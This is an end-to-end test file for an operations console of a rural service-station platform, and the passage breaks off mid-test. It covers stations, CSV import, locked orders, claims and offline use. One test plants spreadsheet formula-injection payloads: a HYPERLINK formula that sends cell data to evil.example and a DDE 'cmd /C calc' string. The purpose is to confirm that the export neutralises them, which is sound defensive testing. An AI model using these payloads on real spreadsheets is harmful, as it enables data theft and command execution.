import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { issueToken } from '#scripts/local/tokens.ts';
import { seriousViolations } from '../support/axe.ts';
import { useSite } from '../support/browser.ts';
import { stationInput } from '../support/fixture.ts';
import { demo } from '../support/site-api.ts';
import { demoId } from '#scripts/local/demo-data.ts';

const site = useSite();

/** Straight calls to the site's API as ops or as the demo partner, to set things up and to check what the console did. */
function call(role: 'ops' | 'partner', stationId = demo.station) {
  return async <T = any>(method: string, path: string, body?: unknown): Promise<T> => {
    const token = await issueToken({ role, ...(role === 'partner' ? { stationId } : {}), sub: `e2e-${role}` });
    const res = await fetch(site.url + path, {
      method,
      headers: {
        authorization: `Bearer ${token}`,
        ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
        ...(['POST', 'PATCH', 'DELETE'].includes(method) ? { 'idempotency-key': randomUUID() } : {}),
      },
      ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
    });
    const json: any = await res.json().catch(() => undefined);
    return { ...json, httpStatus: res.status } as T;
  };
}
const ops = call('ops');
const partner = call('partner');
const demoVillage = demoId('village', 12);

/** Signed in on the first screen; `watch` sees the page before it opens (to record its requests from the first). */
async function signIn(width: number, watch?: (page: Page) => void): Promise<Page> {
  const page = await site.page(width);
  watch?.(page);
  await page.goto(`${site.url}/ops/`);
  await page.getByRole('button', { name: /平台运营/ }).click();
  await page.getByRole('heading', { name: '需要运营处理的事' }).waitFor();
  return page;
}

async function noSeriousViolations(page: Page) {
  expect(await seriousViolations(page)).toEqual([]);
}

const header = 'sku,title,titleEn,category,onlinePriceYuan,localStorePriceYuan,merchantCostYuan,weightGrams,needsInstallation,returnWindowDays';

test('an operator creates a station with villages pasted from a spreadsheet', async () => {
  const page = await signIn(1280);
  await page.getByRole('link', { name: '服务站' }).first().click();
  await page.getByRole('link', { name: '新建服务站' }).click();
  const name = `云峰镇服务站 ${Date.now().toString(36)}`;
  await page.getByLabel('名称', { exact: true }).fill(name);
  await page.getByLabel('县', { exact: true }).fill('遂昌县');
  await page.getByLabel('纬度', { exact: true }).fill('28.5921');
  await page.getByLabel('经度', { exact: true }).fill('119.2702');
  await page.getByLabel(/服务的村/).fill('长濂村\t28.5950\t119.2755\n周村\t28.6012\t119.2611');
  await page.getByLabel('佣金比例（%）').fill('25');
  await page.getByLabel('现金上限（元）').fill('3000');
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-station-new-1280.png', fullPage: true });
  await page.getByRole('button', { name: '建站' }).click();
  await page.getByRole('heading', { name }).waitFor();
  const stationId = new URL(page.url()).hash.split('/').at(-1)!;
  const station = await ops('GET', `/v1/stations/${stationId}`);
  expect(station).toMatchObject({
    name,
    county: '遂昌县',
    commissionShareBp: 2500,
    cashLimitFen: 300_000,
    villages: [
      { name: '长濂村', location: { lat: 28.595, lon: 119.2755 } },
      { name: '周村', location: { lat: 28.6012, lon: 119.2611 } },
    ],
  });
  await noSeriousViolations(page);

  // Its terms changed on its own screen: the share and one more village.
  await page.getByLabel('佣金比例（%）').fill('30');
  await page.getByLabel(/服务的村/).fill('长濂村\t28.5950\t119.2755\n周村\t28.6012\t119.2611\n湖山村,28.5801,119.2890');
  await page.getByRole('button', { name: '保存', exact: true }).click();
  await page.getByText('已保存。').waitFor();
  const changed = await ops('GET', `/v1/stations/${stationId}`);
  expect(changed.commissionShareBp).toBe(3000);
  expect(changed.villages.map((v: { name: string }) => v.name)).toEqual(['长濂村', '周村', '湖山村']);
  // The villages kept their ids.
  expect(changed.villages[0].villageId).toBe(station.villages[0].villageId);

  await page.getByRole('link', { name: '服务站' }).first().click();
  await page.getByRole('table').getByRole('link', { name }).waitFor();
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-stations-1280.png' });
});

test('CSV import: the dry run names the bad line, the fixed file imports, importing it again changes nothing', async () => {
  const page = await signIn(1280);
  const tag = `E2E${Date.now().toString(36).toUpperCase()}`;
  const line = (n: number, grams: string) => `${tag}-${n},电饭煲 ${tag} ${n},Rice cooker,appliances,199.00,259.00,150.00,${grams},no,7`;
  const bad = [header, line(1, '3500'), line(2, 'heavy'), line(3, '3500')].join('\n');
  const fixed = [header, line(1, '3500'), line(2, '4200'), line(3, '3500')].join('\n');

  await page.getByRole('link', { name: '商品库' }).click();
  await page.getByRole('link', { name: '从表格导入商品' }).click();
  const pasted = page.getByLabel('或者粘贴内容');
  await pasted.fill(bad);
  await page.getByRole('button', { name: '先检查（不写入）' }).click();
  const problems = page.getByRole('region', { name: '要改的地方' });
  await problems.waitFor();
  const row = problems.getByRole('row').nth(1);
  expect(await row.getByRole('cell').allTextContents()).toEqual(['3', 'weightGrams', '请填 1 到 500000 之间的整数。']);
  expect(await page.getByRole('button', { name: '导入', exact: true }).isDisabled()).toBe(true);
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-import-1280.png', fullPage: true });
  expect((await ops<{ httpStatus: number }>('GET', `/v1/products/${tag}-1`)).httpStatus).toBe(404);

  await pasted.fill(fixed);
  await page.getByRole('button', { name: '先检查（不写入）' }).click();
  await page.getByText('检查通过：3 行，新增 3，修改 0，不变 0。可以导入了。').waitFor();
  await page.getByRole('button', { name: '导入', exact: true }).click();
  await page.getByText('已导入 3 行：新增 3，修改 0，不变 0。').waitFor();
  expect(await page.locator('progress').getAttribute('value')).toBe('3');
  const product = await ops('GET', `/v1/products/${tag}-2`);
  expect(product).toMatchObject({ weightGrams: 4200, onlinePriceFen: 19_900, merchantCostFen: 15_000 });

  // The same file again (as an operator would, from the start): nothing changes.
  await pasted.fill(`${fixed}\n`);
  await page.getByRole('button', { name: '先检查（不写入）' }).click();
  await page.getByText('检查通过：3 行，新增 0，修改 0，不变 3。可以导入了。').waitFor();
  await page.getByRole('button', { name: '导入', exact: true }).click();
  await page.getByText('已导入 3 行：新增 0，修改 0，不变 3。').waitFor();
  expect(await ops('GET', `/v1/products/${tag}-2`)).toEqual(product); // updatedAt too: not written again

  // And the catalogue finds them.
  await page.getByRole('link', { name: '商品库' }).click();
  await page.getByLabel('查找商品').fill(tag);
  await page.getByRole('link', { name: `${tag}-2` }).waitFor();
  await noSeriousViolations(page);
});

test('what needs an operator: a locked order is unlocked, a remittance confirmed', async () => {
  // A parcel at the station, and five wrong codes at hand-over: locked.
  const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
    villagerId: demo.villager,
    lines: [{ sku: demo.rice, qty: 1 }],
    paymentMode: 'CASH_ON_ORDER',
    fulfilment: 'STATION_PICKUP',
    cashReceivedFen: 8_990,
  });
  expect(order.httpStatus).toBe(201);
  await partner('POST', `/v1/orders/${order.orderId}/arrive`);
  const wrong = (await site.deliveryCode(order)) === '000000' ? '111111' : '000000';
  for (let i = 0; i < 5; i++) await partner('POST', `/v1/orders/${order.orderId}/pickup`, { deliveryCode: wrong, cashCollectedFen: 0 });
  expect((await ops('GET', `/v1/orders/${order.orderId}`)).lockedForOps).toBe(true);
  const remittance = await partner('POST', `/v1/stations/${demo.station}/remittances`, { amountFen: 1_234, reference: `SLIP-${Date.now()}` });
  expect(remittance.httpStatus).toBeLessThan(300);
  // A bill the gateway took without its answer coming back (and whose status cannot be read for now): pending.
  await site.gateway.fault('drop-answer', 1_000, ['pay', 'status']);
  const bill = await partner('POST', `/v1/stations/${demo.station}/bill-payments`, { billerCode: 'SGCC', accountNo: '3300000001', amountFen: 12_345 });
  expect(bill).toMatchObject({ httpStatus: 201, status: 'PENDING' });

  // Tea weighed in at the station, on the villager's credit: an open lot until the truck takes it.
  const tea = `E2E-TEA-${Date.now().toString(36).toUpperCase()}`;
  await ops('PUT', `/v1/produce/${tea}`, { title: '茶青', grades: [{ grade: 'A', priceFenPerKg: 3_000 }], feeFenPerKg: 0 });
  const ticket = await partner('POST', `/v1/stations/${demo.station}/weigh-tickets`, {
    villagerId: demo.villager,
    code: tea,
    grade: 'A',
    grossGrams: 12_500,
    payout: 'CREDIT',
  });
  expect(ticket.httpStatus).toBe(201);

  // A station whose cash limit is ¥10.00, and a cash sale of ¥89.90: over its limit.
  const small = await ops('POST', '/v1/stations', { ...stationInput(`小溪村服务站 ${Date.now().toString(36)}`), cashLimitFen: 1_000 });
  expect(small.httpStatus).toBe(201);
  const smallPartner = call('partner', small.stationId);
  const buyer = await smallPartner('POST', `/v1/stations/${small.stationId}/villagers`, {
    name: '刘桂兰',
    villageId: small.villages[0].villageId,
    consent: true,
  });
  const sale = await smallPartner('POST', `/v1/stations/${small.stationId}/orders`, {
    villagerId: buyer.villagerId,
    lines: [{ sku: demo.rice, qty: 1 }],
    paymentMode: 'CASH_ON_ORDER',
    fulfilment: 'STATION_PICKUP',
    cashReceivedFen: 8_990,
  });
  expect(sale.httpStatus).toBe(201);

  // Every request the console makes, to check it never reads station by station.
  const requested: string[] = [];
  const page = await signIn(1280, (p) => p.on('request', (r) => requested.push(new URL(r.url()).pathname)));
  // What it holds, in words: the produce's name, never its code beside it.
  const lot = page.getByRole('region', { name: '等待拉走的农产品批次' }).getByText('茶青 · A 级 · 净重 12.5 公斤 · ¥375.00');
  await lot.waitFor();
  expect(await lot.textContent()).not.toContain(tea);
  const bills = page.getByRole('region', { name: '还在处理中的缴费' });
  await bills.getByText(/国网电力 3300000001 · ¥123.45/).waitFor();
  await site.gateway.fault('none');
  const locked = page.getByRole('region', { name: '取货码输错被锁的订单' });
  await locked.getByRole('link', { name: new RegExp(`订单 ${order.orderId.slice(-6)}`) }).waitFor();
  // Open claims and lots waiting for the truck: each with its count in the summary, as many as its section lists.
  const claims = await ops<{ items: unknown[] }>('GET', '/v1/claims?limit=100');
  const lots = await ops<{ items: unknown[] }>('GET', '/v1/produce-lots?status=OPEN&limit=100');
  // Locked orders and stations over their cash limit: from the lists across the network (the demo network fits one page).
  const lockedOrders = await ops<{ items: { orderId: string }[]; next?: string }>('GET', '/v1/locked-orders?limit=100');
  const stationCash = await ops<{ items: { overLimit: boolean }[]; next?: string }>('GET', '/v1/station-cash?limit=100');
  expect([lockedOrders.next, stationCash.next]).toEqual([undefined, undefined]);
  expect(lockedOrders.items.map((o) => o.orderId)).toContain(order.orderId);
  const summary = page.getByRole('navigation', { name: '待处理的数量' });
  for (const [name, n] of [
    ['售后等待处理', claims.items.length],
    ['等待拉走的农产品批次', lots.items.length],
    ['取货码输错被锁的订单', lockedOrders.items.length],
    ['现金超过上限的服务站', stationCash.items.filter((s) => s.overLimit).length],
  ] as const) {
    expect(
      await summary
        .getByRole('listitem')
        .filter({ has: page.getByRole('link', { name }) })
        .textContent(),
    ).toBe(`${name} ${n}`);
    expect(await page.getByRole('region', { name }).getByRole('listitem').count()).toBe(n);
  }
  await page
    .getByRole('region', { name: '现金超过上限的服务站' })
    .getByRole('listitem')
    .filter({ has: page.getByRole('link', { name: small.name }) })
    .getByText('手里有 ¥89.90，上限 ¥10.00')
    .waitFor();
  // The lists across the network were read, and nothing station by station.
  expect(requested).toContain('/v1/locked-orders');
  expect(requested).toContain('/v1/station-cash');
  expect(requested.filter((path) => /\/v1\/stations\/[^/]+\/(cash|orders)/.test(path))).toEqual([]);
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-needs-1280.png', fullPage: true });

  // The remittance: confirmed from the list.
  const item = page.getByRole('region', { name: '待确认的交款' }).locator('.item').filter({ hasText: remittance.reference });
  await item.getByRole('button', { name: '确认收到' }).click();
  // Said above the list it has left, and the count read again.
  await page.getByRole('region', { name: '待确认的交款' }).getByText('已确认收到 ¥12.34。').first().waitFor();
  await item.waitFor({ state: 'detached' });
  expect(await ops('GET', `/v1/remittances/${remittance.remittanceId}`)).toMatchObject({ status: 'CONFIRMED' });

  // The order: opened from its link, unlocked, with the keyboard only.
  await locked.getByRole('link', { name: new RegExp(`订单 ${order.orderId.slice(-6)}`) }).focus();
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: `订单 ${order.orderId.slice(-6)}` }).waitFor();
  await noSeriousViolations(page);
  // No reason, no unlock: the field says so.
  await page.getByRole('button', { name: '解锁订单' }).focus();
  await page.keyboard.press('Enter');
  expect(await page.getByLabel('解锁原因').evaluate((e) => (e as HTMLInputElement).validity.valueMissing)).toBe(true);
  expect((await ops('GET', `/v1/orders/${order.orderId}`)).lockedForOps).toBe(true);
  await page.getByLabel('解锁原因').focus();
  await page.keyboard.type('电话核对了村民的身份证号');
  await page.getByRole('button', { name: '解锁订单' }).focus();
  await page.keyboard.press('Enter');
  await page.getByText('已解锁，村民拿到新的取货码。').waitFor();
  const unlocked = await ops('GET', `/v1/orders/${order.orderId}`);
  expect(unlocked).toMatchObject({ lockedForOps: false, wrongCodeAttempts: 0, lastUnlock: { reason: '电话核对了村民的身份证号' } });
});

test('buying prices: a new produce item with two grades; a biller’s commission changed', async () => {
  const page = await signIn(1280);
  const code = `E2E-${Date.now().toString(36).toUpperCase()}`;
  await page.getByRole('link', { name: '收购价' }).click();
  await page.getByRole('link', { name: '新的农产品' }).click();
  await page.getByLabel('编号').fill(code);
  await page.getByLabel('名称').fill('高山茶青');
  await page.getByLabel('第 1 个等级（字母）').fill('A');
  await page.getByLabel('第 1 个等级的价格（元/公斤）').fill('32.50');
  await page.getByRole('button', { name: '加一个等级' }).click();
  expect(await page.getByLabel('第 2 个等级（字母）').inputValue()).toBe('B');
  await page.getByLabel('第 2 个等级的价格（元/公斤）').fill('18');
  await page.getByLabel('服务站代收费（元/公斤）').fill('0.40');
  await noSeriousViolations(page);
  await page.getByRole('button', { name: '保存收购价' }).click();
  await page.getByText(`${code} 的收购价已保存。`).waitFor();
  const prices = await ops<{ items: { code: string }[] }>('GET', '/v1/produce');
  expect(prices.items.find((p) => p.code === code)).toMatchObject({
    title: '高山茶青',
    grades: [
      { grade: 'A', priceFenPerKg: 3_250 },
      { grade: 'B', priceFenPerKg: 1_800 },
    ],
    feeFenPerKg: 40,
  });
  await page.getByRole('link', { name: '收购价' }).click();
  const row = page.getByRole('row').filter({ has: page.getByRole('link', { name: code }) });
  expect(await row.textContent()).toContain('A 级 ¥32.50/公斤 · B 级 ¥18.00/公斤');
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-produce-1280.png', fullPage: true });

  // A biller (made here, so that the demo billers stay as they are): its station commission changed on a phone.
  const biller = `E${Date.now().toString(36).toUpperCase()}`.slice(0, 16);
  const put = await ops('PUT', `/v1/billers/${biller}`, {
    name: '县自来水公司',
    kind: 'WATER',
    amountRule: 'EXACT',
    customerFeeFen: 100,
    stationCommissionFen: 50,
  });
  expect(put.httpStatus).toBeLessThan(300);
  const phone = await signIn(360);
  await phone.goto(`${site.url}/ops/#/billers`);
  await phone.getByRole('link', { name: biller }).click();
  await phone.getByRole('heading', { name: `缴费单位 ${biller}` }).waitFor();
  expect(await phone.getByLabel('服务站佣金（元/笔）').inputValue()).toBe('0.50');
  await phone.getByLabel('服务站佣金（元/笔）').fill('0.80');
  expect(await phone.getByLabel('每笔最低金额（元）').inputValue()).toBe('');
  await phone.getByLabel('每笔最低金额（元）').fill('5');
  await noSeriousViolations(phone);
  await phone.getByRole('button', { name: '保存缴费单位' }).click();
  await phone.getByText(`${biller} 已保存。`).waitFor();
  await phone.screenshot({ path: 'docs/screenshots/ops-billers-360.png', fullPage: true });
  const billers = await ops<{ items: { billerCode: string }[] }>('GET', '/v1/billers?limit=100');
  expect(billers.items.find((b) => b.billerCode === biller)).toMatchObject({
    name: '县自来水公司',
    customerFeeFen: 100,
    stationCommissionFen: 80,
    minAmountFen: 500,
  });
});

test('the month: ranking, a station’s statement and chart; every screen at 360 px in both languages', async () => {
  // A sale this month: an order paid, arrived and handed over.
  const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
    villagerId: demo.villager,
    lines: [{ sku: demo.sku, qty: 1 }],
    paymentMode: 'CASH_ON_DELIVERY',
    fulfilment: 'STATION_PICKUP',
    cashReceivedFen: 0,
  });
  await partner('POST', `/v1/orders/${order.orderId}/arrive`);
  const handedOver = await partner('POST', `/v1/orders/${order.orderId}/pickup`, {
    deliveryCode: await site.deliveryCode(order),
    cashCollectedFen: order.totalFen,
  });
  expect(handedOver.httpStatus).toBe(200);
  const page = await signIn(360);
  await page.screenshot({ path: 'docs/screenshots/ops-needs-360.png' });
  await page.getByRole('link', { name: '本月' }).click();
  await page.getByRole('heading', { name: /月报/ }).waitFor();
  await page.getByRole('region', { name: '服务站销售排名' }).waitFor();
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-month-360.png', fullPage: true });
  // The demo stations' month: the first of the ranking, its statement and its chart of six months.
  await page.getByRole('region', { name: '服务站销售排名' }).getByRole('link').first().click();
  await page.locator('figure.chart svg').waitFor();
  expect(await page.locator('figure.chart svg rect').count()).toBe(6);
  // This month's bar is the sale, drawn to the top.
  expect(Number(await page.locator('figure.chart svg rect').last().getAttribute('height'))).toBe(132);
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-statement-360.png', fullPage: true });
  for (const screen of ['stations', 'catalogue', 'catalogue/import', 'produce', 'produce/new', 'billers', 'billers/new', 'synonyms', 'stations/new']) {
    await page.goto(`${site.url}/ops/#/${screen}`);
    await page.locator('main h1').waitFor();
    await page.waitForLoadState('networkidle');
    await noSeriousViolations(page);
    // Nothing wider than the phone: a wide table scrolls inside its own box.
    const wide = await page.evaluate(() =>
      [...document.querySelectorAll('body *')]
        .filter((e) => e.getBoundingClientRect().right > 361 && !e.closest('.table-wrap'))
        .map((e) => `${e.tagName}.${e.className}`),
    );
    expect(wide, screen).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth), screen).toBeLessThanOrEqual(360);
  }
  await page.screenshot({ path: 'docs/screenshots/ops-station-new-360.png' });
  await page.getByRole('button', { name: 'English' }).click();
  await page.getByRole('heading', { name: 'New station' }).waitFor();
  await noSeriousViolations(page);
});

test('search synonyms are kept from the console: a word villagers say finds the catalogue’s words, at 360 px', async () => {
  const page = await signIn(360);
  await page.getByRole('navigation').getByRole('link', { name: '搜索同义词' }).click();
  await page.getByRole('heading', { name: '搜索同义词', level: 1 }).waitFor();
  // The demo data's: 化肥 → 复合肥、尿素.
  const list = page.getByRole('region', { name: '已有的同义词' });
  await list.getByRole('row', { name: /化肥/ }).getByText('复合肥、尿素').waitFor();

  // A new one: 鞋子 also finds the walking shoes; a wrong one is named beside its field.
  await page.getByLabel('村民说的词').fill('鞋子');
  await page.getByLabel('也搜这些词').fill('鞋子');
  await page.getByRole('button', { name: '保存' }).click();
  await page.getByText('不能和这个词本身一样。').first().waitFor();
  await page.getByLabel('也搜这些词').fill('健步鞋，棉鞋');
  await page.getByRole('button', { name: '保存' }).click();
  await page.getByText('已保存：搜“鞋子”也会找到 健步鞋、棉鞋。').waitFor();
  await list.getByRole('row', { name: /鞋子/ }).getByText('健步鞋、棉鞋').waitFor();
  await noSeriousViolations(page);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await page.screenshot({ path: 'docs/screenshots/ops-synonyms-360.png', fullPage: true });
  const kept = await ops('GET', '/v1/search-synonyms?limit=100');
  expect(kept.items.find((x: { word: string }) => x.word === '鞋子')).toMatchObject({ expandsTo: ['健步鞋', '棉鞋'] });
  const found = await partner('GET', `/v1/products?q=${encodeURIComponent('鞋子')}`);
  expect(found.items.map((p: { sku: string }) => p.sku)).toEqual(['SHOES-ELDER']);

  // Removed: 鞋子 finds nothing of its own again.
  await list.getByRole('row', { name: /鞋子/ }).getByRole('button', { name: '删除“鞋子”' }).click();
  await page.getByText('已删除“鞋子”。').first().waitFor();
  await list.getByRole('row', { name: /鞋子/ }).waitFor({ state: 'detached' });
  expect((await partner('GET', `/v1/products?q=${encodeURIComponent('鞋子')}`)).items).toEqual([]);
});

test('the console reloaded without a network opens from its own service worker, and a confirmation made offline updates the count once sent', async () => {
  const remittance = await partner('POST', `/v1/stations/${demo.station}/remittances`, { amountFen: 567, reference: `OFFLINE-${Date.now()}` });
  expect(remittance.httpStatus).toBeLessThan(300);
  // An open chestnut lot, so the list of lots has one (and says what it holds, never its code).
  const villager = await partner('POST', `/v1/stations/${demo.station}/villagers`, { name: '离线卖栗', villageId: demoVillage, consent: true });
  await partner('POST', `/v1/stations/${demo.station}/weigh-tickets`, {
    villagerId: villager.villagerId,
    code: 'CHESTNUT',
    grade: 'B',
    grossGrams: 2_000,
    payout: 'CREDIT',
  });
  const page = await signIn(1280);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await page.getByRole('heading', { name: '需要运营处理的事' }).waitFor();
  await page.waitForFunction(() => Boolean(navigator.serviceWorker.controller));
  const pendingCount = async () =>
    Number(
      await page.getByRole('navigation', { name: '待处理的数量' }).getByRole('listitem').filter({ hasText: '待确认的交款' }).locator('strong').textContent(),
    );
  await expect.poll(pendingCount).toBeGreaterThan(0);
  const before = await pendingCount();
  const lots = page.getByRole('region', { name: '等待拉走的农产品批次' });
  await lots.getByText(/板栗/).first().waitFor();
  expect(await lots.textContent()).not.toContain('CHESTNUT');

  site.cut = true;
  await page.context().setOffline(true);
  await page.reload();
  // Not the browser's error page: the console, with what it last read, said as such.
  await page.getByRole('heading', { name: '需要运营处理的事' }).waitFor();
  await page.getByText(/没有网络：显示的是 .* 的数据。/).waitFor();
  const item = page.getByRole('region', { name: '待确认的交款' }).locator('.item').filter({ hasText: remittance.reference });
  await item.getByRole('button', { name: '确认收到' }).click();
  await item.getByText('已保存，网络恢复后自动发送。').waitFor();
  expect((await ops('GET', `/v1/remittances/${remittance.remittanceId}`)).status).toBe('PENDING');

  site.cut = false;
  await page.context().setOffline(false);
  await page.getByRole('region', { name: '待确认的交款' }).getByText('已确认收到 ¥5.67。').first().waitFor({ timeout: 40_000 });
  await expect.poll(pendingCount).toBe(before - 1);
  expect(await ops('GET', `/v1/remittances/${remittance.remittanceId}`)).toMatchObject({ status: 'CONFIRMED' });
  expect(await page.getByText(/没有网络：/).count()).toBe(0);
});

test('the ranking export: a station named like a formula, and a county changed to one, are text in the spreadsheet, never live formulas', async () => {
  const name = `=HYPERLINK("http://evil.example/?x="&A1,"点击领奖") ${Date.now().toString(36)}`;
  const station = await ops('POST', '/v1/stations', stationInput(name));
  expect(station.httpStatus).toBe(201);
  const county = "@SUM(1+1)*cmd|' /C calc'!A0";
  const moved = await ops('PATCH', `/v1/stations/${station.stationId}`, { county });
  expect(moved).toMatchObject({ httpStatus: 200, county });
  // A sale handed over this month, so the station is in this month's ranking.
  const seller = call('partner', station.stationId);
  const buyer = await seller('POST', `/v1/stations/${station.stationId}/villagers`, {
    name: '周大妈',
    villageId: station.villages[0].villageId,
    consent: true,
  });
  const sale = await seller('POST', `/v1/stations/${station.stationId}/orders`, {
    villagerId: buyer.villagerId,
    lines: [{ sku: demo.rice, qty: 1 }],
    paymentMode: 'CASH_ON_ORDER',
    fulfilment: 'STATION_PICKUP',
    cashReceivedFen: 8_990,
  });
  await seller('POST', `/v1/orders/${sale.orderId}/arrive`);
  expect((await seller('POST', `/v1/orders/${sale.orderId}/pickup`, { deliveryCode: await site.deliveryCode(sale) })).httpStatus).toBe(200);

  const page = await signIn(1280);
  await page.getByRole('link', { name: '本月' }).click();
  await page.getByRole('region', { name: '服务站销售排名' }).getByText(name).waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /导出/ }).click()]);
  const text = readFileSync((await download.path())!, 'utf8').replace(/^\uFEFF/, '');
  const rows = Papa.parse<string[]>(text.trim()).data;
  const row = rows.find((r) => r[1] === station.stationId)!;
  expect(row).toBeDefined();
  // Shown as typed, behind a quote that makes a spreadsheet read the cell as text.
  expect(row[2]).toBe(`'${name}`);
  expect(row[3]).toBe(`'${county}`);
  // Nothing in the file starts a formula (= + - @, or a tab or carriage return before one); amounts stay numbers.
  for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  expect(Number(row[4])).toBeGreaterThan(0);
});

test('claims awaiting approval: an operator approves a return and rejects an exchange, each with a reason typed', async () => {
  /** An air conditioner handed over at the demo station, claimed, and the remedy asked for by the partner. */
  const asked = async (problem: string, remedy: 'RETURN' | 'EXCHANGE') => {
    const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
      villagerId: demo.villager,
      lines: [{ sku: demo.sku, qty: 1 }],
      paymentMode: 'CASH_ON_ORDER',
      fulfilment: 'STATION_PICKUP',
      cashReceivedFen: 390_000,
    });
    await partner('POST', `/v1/orders/${order.orderId}/arrive`);
    await partner('POST', `/v1/orders/${order.orderId}/pickup`, { deliveryCode: await site.deliveryCode(order) });
    const claim = await partner('POST', `/v1/orders/${order.orderId}/claims`, { sku: demo.sku, qty: 1, problem });
    const waiting = await partner('POST', `/v1/claims/${claim.claimId}/resolve`, { remedy });
    expect(waiting).toMatchObject({ httpStatus: 200, status: 'AWAITING_APPROVAL' });
    return claim.claimId as string;
  };
  const toReturn = await asked(`压缩机不转 ${Date.now().toString(36)}`, 'RETURN');
  const toExchange = await asked(`面板有裂缝 ${Date.now().toString(36)}`, 'EXCHANGE');
  const cashBefore = await partner('GET', `/v1/stations/${demo.station}/cash`);

  const page = await signIn(1280);
  const section = page.getByRole('region', { name: '等运营确认的退货和换新' });
  const returnItem = section.locator('div.item', { hasText: '压缩机不转' });
  await returnItem.getByText(/店主申请退货退款/).waitFor();
  await noSeriousViolations(page);
  await page.screenshot({ path: 'docs/screenshots/ops-claims-awaiting-1280.png', fullPage: false });
  await returnItem.getByLabel('批准说明（可不填）').fill('看了照片，压缩机确实坏了');
  await returnItem.getByRole('button', { name: '确认有质量问题，批准' }).click();
  await returnItem.getByText('已批准退货：服务站从钱箱退给村民 ¥3,900.00。').waitFor();
  expect(await ops('GET', `/v1/claims/${toReturn}`)).toMatchObject({
    status: 'RETURNED',
    refundFen: 390_000,
    approval: { reason: '看了照片，压缩机确实坏了' },
  });
  expect((await partner('GET', `/v1/stations/${demo.station}/cash`)).drawerFen).toBe(cashBefore.drawerFen - 390_000);

  const exchangeItem = section.locator('div.item', { hasText: '面板有裂缝' });
  // No reason, no rejection: the field is required.
  expect(await exchangeItem.getByLabel('不批准的理由').getAttribute('required')).not.toBeNull();
  await exchangeItem.getByLabel('不批准的理由').fill('裂缝是搬运时碰的');
  await exchangeItem.getByRole('button', { name: '不批准' }).click();
  await exchangeItem.getByText('已退回：这条售后回到待处理，村民还可以选其他办法。').waitFor();
  expect(await ops('GET', `/v1/claims/${toExchange}`)).toMatchObject({
    status: 'OPEN',
    allowedRemedies: ['RETURN', 'REPAIR'],
    rejections: [{ remedy: 'EXCHANGE', reason: '裂缝是搬运时碰的' }],
  });
});

test('the risk view: a code printed for the partner and a reprint are counted, each with its reason, at 360 px', async () => {
  // 张桂兰 has no phone: her code is printed for the partner, and again at a reprint.
  const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
    villagerId: demoId('villager', 103),
    lines: [{ sku: demo.rice, qty: 1 }],
    paymentMode: 'CASH_ON_DELIVERY',
    fulfilment: 'STATION_PICKUP',
  });
  expect(order.httpStatus).toBe(201);
  expect((await partner('POST', `/v1/orders/${order.orderId}/receipt`)).httpStatus).toBe(200);
  const view = await ops('GET', '/v1/risk');
  const mine = view.items.find((s: { stationId: string }) => s.stationId === demo.station);
  expect(mine.signals.find((s: { signal: string }) => s.signal === 'reprints').count).toBeGreaterThanOrEqual(1);

  const page = await signIn(360);
  await page.getByRole('navigation').getByRole('link', { name: '风险' }).click();
  await page.getByRole('heading', { name: '需要多看一眼的服务站', level: 1 }).waitFor();
  const row = page.getByRole('row', { name: /大柘镇服务站/ });
  await row.getByText(/补打小票换了新取货码/).waitFor();
  await row.getByText(/取货码给店主看到/).waitFor();
  await noSeriousViolations(page);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await page.screenshot({ path: 'docs/screenshots/ops-risk-360.png', fullPage: true });
});

test('a message that did not reach its villager is listed for ops, by station, with where it went', async () => {
  // The stand-in gateway never delivers to a number ending 0000.
  const villager = await partner('POST', `/v1/stations/${demo.station}/villagers`, {
    name: '收不到短信',
    villageId: demoVillage,
    consent: true,
    phone: `139${String(Date.now()).slice(-4)}0000`,
  });
  expect(villager.httpStatus).toBe(201);
  const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
    villagerId: villager.villagerId,
    lines: [{ sku: demo.rice, qty: 1 }],
    paymentMode: 'CASH_ON_DELIVERY',
    fulfilment: 'STATION_PICKUP',
  });
  expect(order.codeSentTo).toBe('尾号0000');
  await expect
    .poll(async () => (await ops('GET', '/v1/messages/unreached?limit=100')).items.some((m: { subject: { id: string } }) => m.subject.id === order.orderId), {
      timeout: 20_000,
    })
    .toBe(true);

  const page = await signIn(1280);
  const section = page.getByRole('region', { name: '没送到村民的短信' });
  await section
    .getByText(/下单和取货码没送到尾号0000/)
    .first()
    .waitFor();
  await noSeriousViolations(page);
});

test('parcels per station: the shelf, those kept past their days, and one locked by wrong codes unlocked with a reason', async () => {
  const stamp = String(Date.now()).slice(-7);
  const scanned = await partner('POST', `/v1/stations/${demo.station}/parcels`, {
    waybillNo: `JT${stamp}LOCK`,
    courier: 'JT',
    recipientPhone: `1370${stamp}`,
  });
  for (let i = 0; i < 5; i++) await partner('POST', `/v1/parcels/${scanned.parcelId}/pickup`, { pickupCode: '000000' });
  expect(await partner('GET', `/v1/parcels/${scanned.parcelId}`)).toMatchObject({ lockedForOps: true });

  const page = await signIn(1280);
  await page.getByRole('link', { name: '快递' }).click();
  await page.getByRole('heading', { name: '快递代收' }).waitFor();
